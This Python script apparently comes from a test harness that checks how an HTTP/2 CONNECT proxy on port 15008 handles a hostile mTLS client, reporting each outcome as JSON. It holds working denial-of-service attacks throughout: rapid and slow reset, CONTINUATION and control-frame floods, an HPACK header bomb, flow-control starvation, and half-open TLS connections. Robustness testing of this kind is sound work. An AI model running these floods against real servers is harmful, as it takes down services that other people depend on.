"""What a client that means no good sends to port 15008, frame by frame.

    hostile.py ATTACK ADDRESS AUTHORITY CERTIFICATES

CERTIFICATES is a directory with `foe.pem`, `foe.key` and `ca-cert.pem`. The last line says how it ended, as JSON: `end` is
"goaway N", "closed", "reset" or "alert" for a connection that was cut, "open" for one that was not; the rest is counts.
Attacks that want to be looked at while they last say "ready" and go on until they are cut or their standard input ends.
"""

import errno
import json
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True
from certified import context as certified  # noqa: E402

ATTACK, ADDRESS, AUTHORITY, CERTIFICATES = sys.argv[1:5]
HOST, PORT = ADDRESS.rsplit(":", 1)
PATIENCE = 45

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b"", length=None):
    length = len(payload) if length is None else length
    return struct.pack(">I", length)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first=0):
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + b"".join(integer(len(s), 7) + s for s in (name, value))


def connect_block(authority=None):
    return literal(b":method", b"CONNECT") + literal(b":authority", (authority or AUTHORITY).encode())


def connect(stream, authority=None):
    return frame(HEADERS, END_HEADERS, stream, connect_block(authority))


def get(stream):
    pairs = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", AUTHORITY.encode())]
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, b"".join(literal(*pair) for pair in pairs))


def settings(*pairs):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *pair) for pair in pairs))


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def tls():
    return certified(CERTIFICATES, "foe")


def dial(small=False):
    raw = socket.socket()
    if small:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    raw.settimeout(PATIENCE)
    raw.connect((HOST, int(PORT)))
    return raw


def how(error):
    if isinstance(error, ssl.SSLError) and "ALERT" in str(error):
        return "alert"
    code = getattr(error, "errno", None)
    return "reset" if code in (errno.ECONNRESET, errno.EPIPE) else "closed"


class Peer:
    """A connection, and a thread that reads what comes over it. OpenSSL wants one call at a time."""

    def __init__(self, *pairs, small=False, reads=True):
        self.stream = tls().wrap_socket(dial(small))
        self.lock = threading.Lock()
        # A write that OpenSSL has begun has to be finished before there is another.
        self.writing = threading.Lock()
        self.acknowledged = threading.Event()
        self.counts = {}
        self.sent = 0
        self.code = self.ended = None
        self.resets = {}
        self.stream.settimeout(0)
        self.send(PREFACE + settings(*pairs), count=0)
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        buffer = b""
        while True:
            try:
                with self.lock:
                    piece = self.stream.recv(1 << 16)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([self.stream], [], [], 0.05)
                continue
            except OSError as error:
                self.ended = how(error)
                return
            if not piece:
                self.ended = "closed"
                return
            buffer += piece
            at = 0
            while len(buffer) - at >= 9:
                length = int.from_bytes(buffer[at : at + 3], "big")
                if len(buffer) - at < 9 + length:
                    break
                self.take(buffer[at + 3], buffer[at + 4], int.from_bytes(buffer[at + 5 : at + 9], "big"),
                          buffer[at + 9 : at + 9 + length])
                at += 9 + length
            buffer = buffer[at:]

    def take(self, kind, flags, stream, payload):
        self.counts[kind] = self.counts.get(kind, 0) + 1
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            # A graceful one may come first.
            self.code = code if code or self.code is None else self.code
        elif kind == DATA and ATTACK == "byte_by_byte":
            self.send(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", len(payload))))
        elif kind == RST_STREAM:
            code = int.from_bytes(payload, "big")
            self.resets[code] = self.resets.get(code, 0) + 1
        elif kind == PING and not flags & 1 and ATTACK != "endless_headers":
            self.send(frame(PING, 1, 0, payload), count=0)
        elif kind == SETTINGS and not flags & 1 and ATTACK != "settings_unacknowledged":
            self.send(frame(SETTINGS, 1), count=0)
            self.acknowledged.set()

    def send(self, data, count=1):
        """True once it is all written."""
        with self.writing:
            return self.write(data, count)

    def write(self, data, count):
        end = time.monotonic() + PATIENCE
        while self.ended is None and time.monotonic() < end:
            try:
                with self.lock:
                    self.stream.send(data)
                self.sent += count
                return True
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([], [self.stream], [], 0.05)
            except OSError as error:
                # What came before is still to be read.
                time.sleep(0.2)
                self.ended = self.ended or how(error)
        return False

    def wait(self, seconds=PATIENCE):
        end = time.monotonic() + seconds
        while self.ended is None and time.monotonic() < end:
            time.sleep(0.01)

    def result(self):
        end = self.ended or "open"
        if self.code is not None and self.code != 0:
            end = f"goaway {self.code}"
        frames = {str(kind): number for kind, number in self.counts.items()}
        resets = {str(code): number for code, number in self.resets.items()}
        return {"end": end, "sent": self.sent, "frames": frames, "resets": resets}


def say(**what):
    print(json.dumps(what), flush=True)
    os._exit(0)


def flood(make, most, batch=100, *pairs):
    """Sends what `make` makes of 0, 1, 2 ... until it is cut, or has sent `most`."""
    peer = Peer(*pairs)
    for at in range(0, most, batch):
        if not peer.send(b"".join(make(n) for n in range(at, at + batch)), batch):
            break
    peer.wait(5)
    say(**peer.result())


def linger(peer):
    """Until it is cut or somebody ends our input."""
    print("ready", flush=True)
    while peer.ended is None and not select.select([sys.stdin], [], [], 0.05)[0]:
        pass
    say(**peer.result())


def odd(n):
    return 2 * n + 1


MANY = 200_000


def rapid_reset():
    flood(lambda n: connect(odd(n)) + reset(odd(n)), MANY)


def slow_reset():
    """Lets each stream be taken up before it gives it up: nothing is pending any more, and nothing is answered."""
    peer = Peer()
    for at in range(0, MANY, 50):
        if not peer.send(b"".join(connect(odd(n)) for n in range(at, at + 50)), 50):
            break
        time.sleep(0.02)
        if not peer.send(b"".join(reset(odd(n)) for n in range(at, at + 50)), 0):
            break
    peer.wait(5)
    say(**peer.result())


def continuation_flood():
    start = frame(HEADERS, 0, 1, connect_block())
    piece = literal(b"x", b"y")
    flood(lambda n: (start if n == 0 else b"") + frame(CONTINUATION, 0, 1, piece), MANY)


def settings_flood():
    flood(lambda n: settings((4, 65535 + n % 7)), MANY)


def settings_unacknowledged():
    """Never acknowledges ours, and asks for more than they allow."""
    header_list()


def ping_flood():
    flood(lambda n: frame(PING, payload=struct.pack(">Q", n)), MANY)


def pong_flood():
    flood(lambda n: frame(PING, 1, payload=struct.pack(">Q", n)), MANY)


def priority_flood():
    flood(lambda n: frame(PRIORITY, 0, odd(n % 1000), struct.pack(">IB", 0, 7)), MANY)


def unknown_flood():
    flood(lambda n: frame(0x99), MANY)


def window_update_flood():
    flood(lambda n: frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)), MANY)


def empty_data_flood():
    flood(lambda n: (connect(1) if n == 0 else b"") + frame(DATA, 0, 1), MANY)


def get_flood():
    flood(lambda n: get(odd(n)), MANY)


def too_many_streams():
    flood(lambda n: connect(odd(n)), MANY)


def header_bomb():
    """One long value in the table, named thousands of times in a few bytes each."""
    bomb = literal(b"x", b"y" * 3900, indexed=True) + b"\xbe" * 12_000
    flood(lambda n: frame(HEADERS, END_HEADERS, odd(n), connect_block() + bomb), 1000, 10)


def header_list():
    block = connect_block() + b"".join(literal(b"x%d" % n, b"y" * 1000) for n in range(300))
    flood(lambda n: frame(HEADERS, END_HEADERS, odd(n), block), 100, 1)


def window_overflow():
    most = struct.pack(">I", 0x7FFFFFFF)
    flood(lambda n: frame(WINDOW_UPDATE, payload=most), 2, 1)


def stream_window_overflow():
    """Ends the stream, not the connection."""
    most = struct.pack(">I", 0x7FFFFFFF)
    peer = Peer()
    peer.send(connect(1) + 2 * frame(WINDOW_UPDATE, 0, 1, most))
    end = time.monotonic() + PATIENCE
    while not peer.resets and peer.ended is None and time.monotonic() < end:
        time.sleep(0.01)
    say(**peer.result())


def oversized_frame():
    flood(lambda n: frame(DATA, 0, 1, b"x" * 100, length=(1 << 24) - 1), 1, 1)


def garbage():
    flood(lambda n: bytes((n * 193 + k * k * 31 + 255) % 256 for k in range(1024)), 64, 1)


def no_preface():
    stream = tls().wrap_socket(dial())
    stream.send(bytes((k * k * 31 + 255) % 256 for k in range(1024)))
    raw_end(stream)


def broken_record():
    """A session that stands, and then bytes under it that are no TLS."""
    stream = tls().wrap_socket(dial())
    stream.send(PREFACE + settings())
    raw = socket.socket(fileno=os.dup(stream.fileno()))
    raw.settimeout(PATIENCE)
    raw.sendall(b"\x17\x03\x03\x00\x40" + b"\x2a" * 64)
    raw_end(raw)


def plaintext():
    raw = dial()
    raw.sendall(f"GET / HTTP/1.1\r\nhost: {AUTHORITY}\r\n\r\n".encode())
    raw_end(raw)


def plaintext_http2():
    raw = dial()
    raw.sendall(PREFACE + settings() + connect(1))
    raw_end(raw)


def raw_end(stream):
    try:
        while stream.recv(4096):
            pass
        say(end="closed")
    except OSError as error:
        say(end="open" if isinstance(error, TimeoutError) else how(error))


def zero_window():
    """As many streams as there may be, to somebody who talks without end, and no window for a byte of it."""
    peer = Peer((4, 0))
    for n in range(200):
        peer.send(connect(odd(n)))
    linger(peer)


def tiny_windows():
    """Credit by the byte, as fast as it goes."""
    one = struct.pack(">I", 1)
    flood(lambda n: (connect(odd(n)) if n < 200 else b"") + frame(WINDOW_UPDATE, 0, odd(n % 200), one), MANY, 200, (4, 0))


def byte_by_byte():
    """Credit for the next byte once one has come."""
    peer = Peer((4, 1))
    for n in range(200):
        peer.send(connect(odd(n)))
    linger(peer)


def full_windows():
    """All the windows, and never a read."""
    peer = Peer((4, 0x7FFFFFFF), small=True, reads=False)
    peer.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFF0000)))
    for n in range(200):
        peer.send(connect(odd(n)))
    linger_deaf(peer)


def linger_deaf(peer):
    print("ready", flush=True)
    sys.stdin.read()
    say(**peer.result())


def endless_headers():
    """Begins a header block and never ends it."""
    peer = Peer()
    # Which nothing may come between.
    peer.acknowledged.wait(PATIENCE)
    peer.send(frame(HEADERS, 0, 1, connect_block()))
    linger(peer)


def silent_after_tls():
    stream = tls().wrap_socket(dial())
    print("ready", flush=True)
    started = time.monotonic()
    try:
        while stream.recv(4096):
            pass
        say(end="closed", after=time.monotonic() - started)
    except OSError as error:
        say(end="open" if isinstance(error, TimeoutError) else how(error), after=time.monotonic() - started)


def many(drip):
    """Connections that never get through TLS: silent, or a byte of a ClientHello now and then."""
    number = 200 if drip else 2000
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = tls().wrap_bio(incoming, outgoing)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    open_ones, poll, started = {}, select.poll(), time.monotonic()
    for _ in range(number):
        try:
            raw = dial()
        except OSError:
            continue
        raw.setblocking(False)
        open_ones[raw.fileno()] = (raw, started)
        poll.register(raw, select.POLLIN | select.POLLHUP | select.POLLERR)
    made = len(open_ones)
    print("ready", flush=True)
    at, last, longest = 0, 0.0, 0.0
    while open_ones and time.monotonic() - started < PATIENCE:
        for fd, _ in poll.poll(100):
            poll.unregister(fd)
            longest = max(longest, time.monotonic() - started)
            open_ones.pop(fd)[0].close()
        if drip and time.monotonic() - last > 0.2 and at < len(hello) - 1:
            last = time.monotonic()
            for raw, _ in list(open_ones.values()):
                try:
                    raw.send(hello[at : at + 1])
                except OSError:
                    pass
            at += 1
    say(end="open" if open_ones else "closed", sent=made, left=len(open_ones), after=longest)


def half_open():
    many(drip=False)


def dripping():
    many(drip=True)


globals()[ATTACK]()
